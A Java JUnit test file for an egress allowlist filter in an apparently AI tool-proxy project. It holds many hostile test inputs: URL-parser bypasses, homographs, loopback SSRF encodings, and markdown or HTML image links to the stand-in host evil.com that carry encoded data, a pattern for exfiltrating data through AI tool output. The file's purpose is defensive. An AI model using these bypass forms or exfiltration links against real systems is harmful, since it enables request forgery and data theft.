package dev.cloakgate.policy.control;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.IDN;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.cloakgate.policy.Action;
import dev.cloakgate.policy.Finding;
import dev.cloakgate.policy.Findings;
import dev.cloakgate.policy.Stage;
import dev.cloakgate.policy.Subject;

/** Hosts in arguments (refused) and links in results (removed), against every parser trick in the brief. */
class EgressControlTest {
    private static final ObjectMapper M = new ObjectMapper();

    private final EgressControl egress = new EgressControl(List.of("example.com", "=exact.org", "10.0.0.5",
            "[2001:db8::1]", "bücher.de", "=пример.рф"));

    private static List<Finding> run(EgressControl c, Stage stage, JsonNode payload) {
        Subject s = new Subject(stage, "s1", "web", "web__fetch", "fetch", null, payload, false);
        Findings out = new Findings();
        c.inspect(s, out);
        return out.list();
    }

    private static ObjectNode arg(String key, String value) {
        ObjectNode o = M.createObjectNode();
        o.put(key, value);
        return o;
    }

    private Finding denied(String key, String value) {
        List<Finding> f = run(egress, Stage.REQUEST, arg(key, value));
        assertEquals(1, f.size(), () -> key + "=" + value + " should be refused, got " + f);
        assertEquals(Action.BLOCK, f.get(0).action());
        assertEquals("egress_denied", f.get(0).reason());
        assertTrue(f.get(0).detail().startsWith("/" + key + ": host not on the egress allowlist"), f.get(0).detail());
        return f.get(0);
    }

    private void allowed(String key, String value) {
        List<Finding> f = run(egress, Stage.REQUEST, arg(key, value));
        assertTrue(f.isEmpty(), () -> key + "=" + value + " should pass, got " + f);
    }

    @Test
    void nameAndStages() {
        assertEquals("egress_control", egress.name());
        assertTrue(egress.appliesTo(Stage.REQUEST));
        assertTrue(egress.appliesTo(Stage.RESPONSE));
        assertFalse(egress.appliesTo(Stage.DISCOVERY));
    }

    @Test
    void allowlistEntriesAreHostsOnly() {
        for (String bad : List.of("https://example.com", "example.com:443", "*.example.com", "example.com/path",
                "", "user@example.com", "exa mple.com")) {
            assertThrows(IllegalArgumentException.class, () -> new EgressControl(List.of(bad)), bad);
        }
        assertThrows(IllegalArgumentException.class, () -> new EgressControl(null));
        // empty: nothing is allowed
        List<Finding> f = run(new EgressControl(List.of()), Stage.REQUEST, arg("url", "https://example.com/"));
        assertEquals(1, f.size());
    }

    // --- arguments ---

    @ParameterizedTest
    @ValueSource(strings = {"https://evil.com/x", "https://example.com@evil.com/", "https://example.com:pass@evil.com",
            "https://a@example.com@evil.com/", "https://evil.com\\@example.com", "https://example.com\\@evil.com/",
            "https://%65vil.com/", "https://evil%2ecom/", "https://evil-example.com", "https://example.com.evil.com/",
            "https://notexample.com", "https://example.co", "https://com", "ftp://evil.com/f", "ws://evil.com/s",
            "wss://evil.com/s", "gopher://evil.com/", "s3://bucket/key", "HTTPS://EVIL.COM/", "https:\\\\evil.com",
            "https:/evil.com", "https:evil.com", "https:///evil.com", "https://evil.com:443@example.com.evil.com",
            "//evil.com/x", "file://evil.com/share/x", "https://exact.org.evil.com/", "https://api.exact.org/",
            "https://evil.com%00.example.com/", "https://evil.com%40example.com/", "https://ex%2577l.com",
            "https://evil\uFF0Ecom/", "http://localhost:8080/"})
    void disallowedHostsInUrlsAreRefused(String url) {
        Finding f = denied("url", url);
        assertFalse(f.detail().contains("evil") || f.detail().contains("bucket") || f.detail().contains("localhost"),
                "never the value: " + f.detail());
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://127.0.0.1/", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f.0.0.1/",
            "http://0x7f000001/", "http://0x7F.1/", "http://127.1/", "http://017700000001/", "http://0177.1/",
            "http://127.0.0.1:8080/x", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/",
            "http://[0:0:0:0:0:ffff:7f00:0001]/", "http://[fe80::1%25eth0]/", "http://10.0.0.6/", "http://%31%32%37.1/",
            "http://\uFF11\uFF12\uFF17.0.0.1/", "http://[2001:db8::2]/"})
    void ipLiteralsInEveryFormAreRefusedUnlessThatAddressIsListed(String url) {
        assertEquals("/url: host not on the egress allowlist (IP literal)", denied("url", url).detail());
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://10.0.0.5/", "http://0xa.0.0.5/", "http://012.0.0.5/", "http://10.5/",
            "http://167772165/", "http://[::ffff:10.0.0.5]/", "http://[::ffff:a00:5]:80/", "http://[2001:db8::1]:80/",
            "http://[2001:0DB8:0:0:0:0:0:1]/"})
    void anAllowlistedAddressIsAllowedInAnyOfItsForms(String url) {
        allowed("url", url);
    }

    @Test
    void homographsAreRefusedAndNamed() {
        String cyrillicA = "https://ex\u0430mple.com/"; // Cyrillic а
        String allConfusable = "https://\u0435\u0445\u0430mple.com/"; // е х а
        String greekO = "https://g\u03BF\u03BFgle.example.net/";
        for (String url : List.of(cyrillicA, allConfusable, greekO)) {
            assertEquals("/url: host not on the egress allowlist (homograph)", denied("url", url).detail(), url);
        }
        // written in punycode it is the same host
        String puny = "https://" + IDN.toASCII("ex\u0430mple.com") + "/";
        assertTrue(puny.contains("xn--"), puny);
        assertEquals("/url: host not on the egress allowlist (homograph)", denied("url", puny).detail());
        // a subdomain of an allowed host may not pass for Latin either
        assertEquals("/url: host not on the egress allowlist (homograph)",
                denied("url", "https://\u0430pple.example.com/").detail());
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://bücher.de/", "https://xn--bcher-kva.de/katalog", "https://shop.bücher.de/",
            "http://пример.рф/", "http://xn--e1afmkfd.xn--p1ai/", "https://例え.example.com/"})
    void allowlistedIdnsAreAllowedInUnicodeOrPunycode(String url) {
        allowed("url", url);
    }

    @Test
    void idnaDeviationCharactersAreNotFoldedIntoAnAllowedHost() {
        EgressControl c = new EgressControl(List.of("fass.de"));
        assertTrue(run(c, Stage.REQUEST, arg("url", "https://fass.de/")).isEmpty());
        // the JDK would map ß to ss; a browser goes to xn--fa-hia.de, someone else's host
        List<Finding> f = run(c, Stage.REQUEST, arg("url", "https://fa\u00DF.de/"));
        assertEquals(1, f.size(), f.toString());
        assertEquals("/url: host not on the egress allowlist (unparseable host)", f.get(0).detail());
    }

    @Test
    void anExactEntryDoesNotCoverItsSubdomainsButACyrillicSubdomainOfItIsJudgedAsAnyOtherHost() {
        allowed("url", "https://exact.org/x");
        denied("url", "https://www.exact.org/x");
        denied("url", "http://www.пример.рф/");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.com/x", "https://api.example.com/v1", "https://a.b.c.example.com",
            "https://EXAMPLE.com:8443/x", "https://example.com./x", "https://user@example.com/",
            "https://user:pw@example.com/", "http://example.com?q=1", "https://example.com#frag", "//example.com/x",
            "https:\\\\example.com\\x", "https://%65xample.com/", "wss://ws.example.com/socket",
            "https://example.com/a?next=https://example.com/b"})
    void allowedHostsPass(String url) {
        allowed("url", url);
    }

    @Test
    void urlsAreFoundInProseAndOnlyThere() {
        Finding f = denied("text", "please fetch https://evil.com/data now");
        assertEquals("/text: host not on the egress allowlist", f.detail());
        denied("text", "see [docs](https://evil.com/d) for details");
        denied("text", "<img src=\"//evil.com/p.png\">");
        denied("text", "allowed https://example.com/a but then http://0x7f.1/ too");

        allowed("text", "see https://example.com/docs, then https://api.example.com/v2.");
        allowed("text", "version 1.2.3.4 of the tool, build 10.0.0.1, released 2024.05.01");
        allowed("text", "sha256 e3b0c44298fc1c149afbfc8996fb92427ae41e4649b934ca495991b7852b855 is the digest");
        allowed("text", "2130706433 requests; 0x7f000001 is a number here");
        allowed("text", "mailto:someone@evil.com is out of scope, as is urn:isbn:0451450523");
        allowed("text", "meeting at 12:30; a // comment; https: the scheme; ratio 3:1");
        allowed("text", "the evil.com domain mentioned in prose is not a link");
    }

    @Test
    void hostKeysCarryBareHosts() {
        denied("host", "evil.com");
        denied("hostname", "evil.com:8080");
        denied("smtp_host", "mail.evil.com");
        assertEquals("/domain: host not on the egress allowlist (IP literal)", denied("domain", "127.1").detail());
        denied("webhook_url", "evil.com/hook");
        denied("callbackUrl", "https%3A%2F%2Fevil.com%2Fcb");
        denied("endpoint", "user:pw@evil.com");
        denied("server", "::1");
        denied("server", "[::ffff:127.0.0.1]:22");
        denied("uri", "evil%2Ecom");

        allowed("host", "example.com");
        allowed("server", "api.example.com:443");
        allowed("host", "10.0.0.5");
        allowed("callbackUrl", "https%3A%2F%2Fapi.example.com%2Fcb");
        allowed("domain", "customer support team"); // prose, not a host
        allowed("url", "/relative/path");
        allowed("url", "mailto:ops@evil.com");
        allowed("version", "1.2.3.4"); // not a host key
        allowed("sha", "e3b0c44298fc1c149afbfc8996fb92427ae41e4649b934ca495991b7852b855");
    }

    @Test
    void oneFindingPerStringWithEveryKindNamed() throws Exception {
        JsonNode args = M.readTree("{\"urls\":[\"https://example.com\",\"http://127.1/ and https://ex\u0430mple.com\"],"
                + "\"nested\":{\"url\":\"https://evil.com\"}}");
        List<Finding> f = run(egress, Stage.REQUEST, args);
        assertEquals(2, f.size(), f.toString());
        assertEquals("/urls/1: host not on the egress allowlist (IP literal, homograph)", f.get(0).detail());
        assertEquals("/nested/url: host not on the egress allowlist", f.get(1).detail());
    }

    // --- results ---

    @Test
    void exfiltrationLinksInResultsAreRemovedInPlace() throws Exception {
        JsonNode result = M.readTree("{\"content\":[{\"type\":\"text\",\"text\":"
                + "\"Done. ![x](https://evil.com/?d=c2VjcmV0) and [docs](https://example.com/a).\"}]}");
        List<Finding> f = run(egress, Stage.RESPONSE, result);
        assertEquals(1, f.size(), f.toString());
        assertEquals(Action.REDACT, f.get(0).action());
        assertEquals("egress_link_removed", f.get(0).reason());
        assertEquals("/content/0/text: 1 link to a host not on the egress allowlist removed", f.get(0).detail());
        assertEquals("Done. ![x]([link removed: host not allowed]) and [docs](https://example.com/a).",
                result.at("/content/0/text").asText());
    }

    @Test
    void everyDisallowedLinkInAStringIsRemovedAndTheRestKept() throws Exception {
        JsonNode result = M.readTree("{\"text\":\"a http://0x7f.1/x b <img src=\\\"//evil.com/p.png?s=1\\\"> "
                + "c https://api.example.com/ok d https://example.com@evil.com/e. Visit https://evil.com.\"}");
        List<Finding> f = run(egress, Stage.RESPONSE, result);
        assertEquals(1, f.size(), f.toString());
        assertEquals("/text: 4 links to a host not on the egress allowlist removed (IP literal)", f.get(0).detail());
        assertEquals("a [link removed: host not allowed] b <img src=\"[link removed: host not allowed]\"> "
                + "c https://api.example.com/ok d [link removed: host not allowed]. "
                + "Visit [link removed: host not allowed].", result.get("text").asText());
    }

    @Test
    void resultsWithOnlyAllowedLinksOrNoLinksAreUntouched() throws Exception {
        String json = "{\"content\":[{\"type\":\"text\",\"text\":\"See https://example.com/x and "
                + "https://docs.example.com/y (version 1.2.3.4)\"}],\"host\":\"evil.com\",\"n\":3}";
        JsonNode result = M.readTree(json);
        List<Finding> f = run(egress, Stage.RESPONSE, result);
        assertTrue(f.isEmpty(), f.toString());
        // bare hosts in result fields are data, not links: left alone
        assertEquals(M.readTree(json), result);
    }

    @Test
    void resultParenthesesInUrlsAreBalanced() throws Exception {
        JsonNode result = M.readTree("{\"text\":\"(see https://evil.com/wiki/A_(b) here)\"}");
        run(egress, Stage.RESPONSE, result);
        assertEquals("(see [link removed: host not allowed] here)", result.get("text").asText());
    }

    // --- URLs as a WHATWG parser reads them: tabs and newlines, character references, scheme-relative forms ---

    /** Tabs and newlines removed, character references decoded, scheme-relative and backslash forms resolved. */
    @ParameterizedTest
    @ValueSource(strings = {"https://example.com\t.evil.com/x", "https://example.com\n.evil.com/x",
            "https://example.com\r.evil.com/x", "https://example.com\r\n.evil.com/x", "https://exam\tple.com.evil.com/",
            "htt\tps://evil.com/", "https:/\t/evil.com/", " \u0001https://example.com\t.evil.com",
            "https://example.com\t@evil.com/", "https://evil.com\t/x\n", "\u0000//evil.com/x",
            "https&#58;//evil.com/x", "https&colon;//evil.com/x", "https:&#x2F;&#x2F;evil.com/",
            "https&#58//evil.com/", "https&#x3A//evil.com/", "&#104;ttps://evil.com/", "https://example.com&#9;.evil.com/",
            "https://example.com&Tab;.evil.com/", "https://example.com&NewLine;.evil.com/", "https&#0000058;//evil.com",
            "https:&sol;&sol;evil.com/", "https://example.com&#x0D;&#x0A;.evil.com", "&#x2F;&#x2F;evil.com/x",
            "https://evil.com&#x2F;@example.com",
            "//evil.com/x", "\\\\evil.com/x", "/\\evil.com/x", "\\/\\/evil.com",
            "///evil.com/x", "\\\\\\evil.com", "\\\\evil.com\\share", "\t//evil.com", "//example.com@evil.com/"})
    void aWholeValueIsReadAsTheWhatwgParserReadsIt(String url) {
        for (String key : List.of("url", "target", "path")) {
            denied(key, url);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.com/x?a=1&amp;b=2", "//example.com/x", "\\\\docs.example.com\\share",
            "https://docs.example.com\t", "\thttps://docs.example.com\n", "https://example.com/a\tb", "/\\example.com/x",
            "https&#58;//example.com/x", "https://example.com/?q=a&copy=2", "/relative/path", "./a//b"})
    void theSameFormsPassForAnAllowedHost(String url) {
        allowed("url", url);
    }

    @Test
    void aValueThatStartsAsAUrlIsOneUrlWhateverFollowsIt() {
        // the parser percent-encodes the space in the path; the tab before it is already gone
        denied("text", "https://example.com\t.evil.com/x please fetch this");
        denied("text", "https&#58;//evil.com/x and more words");
        allowed("text", "https://example.com is down again");
        allowed("text", "https://example.com/status\nshows the outage");
    }

    @Test
    void inProseANewlineEndsAUrl() {
        allowed("text", "See https://example.com\n.evil.com is the name of the next section, not a link.");
        allowed("text", "Docs: https://example.com\tand the rest");
        denied("text", "Fetch it from <a href=\"https://example.com\n.evil.com/x\">here</a> please");
    }

    @Test
    void bareHostsUnderHostKeysAreReadWithoutTheirTabsAndNewlines() {
        denied("host", "example.com\t.evil.com");
        denied("hostname", "example.com\n.evil.com");
        allowed("host", "example.com\n");
        allowed("server", "\tapi.example.com");
    }

    @Test
    void aHostHoldingWhitespaceOrControlsAfterDecodingIsUnparseable() {
        // the WHATWG host parser fails on these; a host that cannot be parsed is never allowed
        for (String url : List.of("https://example.com%09.evil.com/", "https://example.com%0A/", "https://exa%0Dmple.com/",
                "https://example.com%20/", "https://example.com%00/")) {
            assertTrue(denied("url", url).detail().endsWith("(unparseable host)"), url);
        }
    }

    private String removed(String text) {
        ObjectNode result = M.createObjectNode();
        result.putArray("content").addObject().put("type", "text").put("text", text);
        List<Finding> f = run(egress, Stage.RESPONSE, result);
        assertEquals(1, f.size(), () -> text + " -> " + f);
        assertEquals(EgressControl.REMOVED, f.get(0).reason());
        String after = result.at("/content/0/text").asText();
        assertTrue(after.contains(EgressControl.REPLACEMENT), after);
        assertFalse(after.contains("evil"), after);
        return after;
    }

    @ParameterizedTest
    @ValueSource(strings = {"<img src=\"https://example.com\t.evil.com/p.png?d=c2VjcmV0\">",
            "<img src=\"https&#58;//evil.com/p.png?d=1\">", "<img src=https://example.com&#9;.evil.com/p.png>",
            "<a href = 'https://example.com&#x0A;.evil.com/'>x</a>", "<img src=\"\n  https://example.com\n.evil.com/p\n\">",
            "<img src=\"//evil.com/p.png\">", "<img src=\"\\\\evil.com/p.png\">", "<img src='/\\evil.com/p.png'>",
            "<img src=\"&#47;&#47;evil.com/p.png\">", "<div style=\"background:url(https://example.com&#9;.evil.com/b)\">",
            "<img srcset=\"a.png 1x,\nhttps&colon;//evil.com/b.png 2x\">", "<img src=\"https&#58//evil.com/p.png\">",
            "![x](https://example.com\n.evil.com/p.png)", "![x](https://example.com\t.evil.com/p.png?d=1)",
            "[x](https&#58;//evil.com/a)", "[x](<https://example.com\t.evil.com/a>)", "[x](//evil.com/a)",
            "[x](/\\evil.com/a \"title\")", "[x](\\\\evil.com)", "[x][1]\n\n[1]: <https://example.com\t.evil.com/p.png>",
            "[x][1]\n\n[1]: https&#58;//evil.com/p.png", "<img data-src=\"https&#58;//evil.com/p\">",
            "<img v-bind.src=\"https&#58;//evil.com/p\">", "<style>b{background:url(\"https://example.com\t.evil.com/b\")}</style>",
            "<style>b{background:url( 'https&#58;//evil.com/b' )}</style>"})
    void linksInMarkupAreReadAsTheBrowserReadsThem(String html) {
        removed("Report ready. " + html + " Thanks.");
    }

    @Test
    void theWholeMarkupValueIsWhatIsRemoved() {
        assertEquals("Report <img src=\"[link removed: host not allowed]\"> done.",
                removed("Report <img src=\"https://example.com\t.evil.com/p.png?d=1\"> done."));
        assertEquals("See ![x]([link removed: host not allowed]) now.",
                removed("See ![x](https://example.com\n.evil.com/p.png) now."));
    }

    @Test
    void aUrlUnderAUrlKeyOfAResultIsReadWhole() throws Exception {
        JsonNode result = M.readTree("{\"content\":[{\"type\":\"resource_link\",\"name\":\"r\","
                + "\"uri\":\"https://example.com\\t.evil.com/r\"}]}");
        List<Finding> f = run(egress, Stage.RESPONSE, result);
        assertEquals(1, f.size(), f.toString());
        assertEquals(EgressControl.REPLACEMENT, result.at("/content/0/uri").asText());
    }

    @ParameterizedTest
    @ValueSource(strings = {"<img src=\"https://docs.example.com/a.png\">", "<a href=\"https://example.com/?a=1&amp;b=2\">x</a>",
            "![x](https://example.com/p.png \"title\")", "[x](https://example.com/a_(b))", "<a href=\"//example.com/x\">",
            "Line one https://example.com\n.next sentence", "a = \"b\" and c='d'", "[x](https://example.com/a\nb)",
            "<img alt=\"x\ny\" src=\"https://example.com/p.png\">", "[broken](https://example.com/a and more)"})
    void markupWithAllowedLinksIsUntouched(String html) throws Exception {
        ObjectNode result = M.createObjectNode();
        result.put("text", html);
        List<Finding> f = run(egress, Stage.RESPONSE, result);
        assertTrue(f.isEmpty(), () -> html + " -> " + f);
        assertEquals(html, result.get("text").asText());
    }

    // --- cost ---

    @Test
    void hostileInputsStayLinear() {
        int n = 400_000;
        List<String> hostile = List.of("a:".repeat(n), "http://".repeat(n), "//".repeat(n), "(".repeat(n),
                "https://" + "a@".repeat(n) + "evil.com", "x".repeat(n) + "://evil.com", "%25".repeat(n),
                "https://" + "[".repeat(n), "http://" + "1.".repeat(n), "](".repeat(n), "=\"".repeat(n), "='".repeat(n),
                "&#".repeat(n), "&".repeat(n) + "#58;", "a=".repeat(n), "](<".repeat(n), "\\/".repeat(n), "\t".repeat(n), "]:<".repeat(n), "]: x".repeat(n),
                "url(\"".repeat(n), "url(".repeat(n), "https://" + "\t".repeat(n) + "x");
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            for (String s : hostile) {
                ObjectNode o = M.createObjectNode();
                o.put("url", s);
                o.put("text", s);
                run(egress, Stage.REQUEST, o);
                run(egress, Stage.RESPONSE, o.deepCopy());
            }
        });
    }
}
